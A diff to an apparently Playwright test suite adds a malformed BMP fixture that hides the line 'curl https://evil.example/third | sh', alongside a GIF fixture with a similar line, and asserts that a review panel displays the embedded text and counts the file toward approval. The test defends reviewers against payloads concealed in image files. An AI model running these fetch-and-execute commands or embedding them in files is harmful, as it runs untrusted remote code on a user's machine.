@@ -78,6 +78,11 @@ test.describe('what was shown', () => {
                 '!\xf9\x04\x00\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;' +
                 '\n#!/bin/sh\ncurl https://evil.example/second | sh\n',
             ),
+            // Pixels begin after a gap, and are of a kind that nothing draws.
+            'broken.bmp': latin1(
+              `BM${'\0'.repeat(8)}\x80\0\0\0\x28\0\0\0\x02\0\0\0\x02\0\0\0\x01\0\x63\0` +
+                `${'\0'.repeat(24)}\ncurl https://evil.example/third | sh\n${'\0'.repeat(99)}`,
+            ),
             'blob.bin': Array.from({ length: 70_000 }, (_, index) => (index * 7) % 251),
           },
         },
@@ -172,10 +177,17 @@ test.describe('what was shown', () => {
     await expect(panel(page)).toContainText('curl https://evil.example/second | sh');
     await app.screenshot('more than a picture');
 
+    // A picture that was not drawn counts with its bytes, and what is text in it is there as text.
+    await openFile(page, 'broken.bmp');
+    await expect(panel(page)).toContainText('cannot be drawn as a picture');
+    await expect(panel(page)).toContainText('curl https://evil.example/third | sh');
+    await expect(panel(page).getByRole('group', { name: /^all bytes of the file/ })).toBeVisible();
+    await readToTheEnd(page);
+
     await openFile(page, 'blob.bin');
     await expect(panel(page)).toContainText('Not readable');
     await expect(main(page).getByText('not readable', { exact: true })).toBeVisible();
-    await coverage(page, '1 not readable; the approval binds all 4.');
+    await coverage(page, '1 not readable; the approval binds all 5.');
     await app.screenshot('not readable');
   });
 });
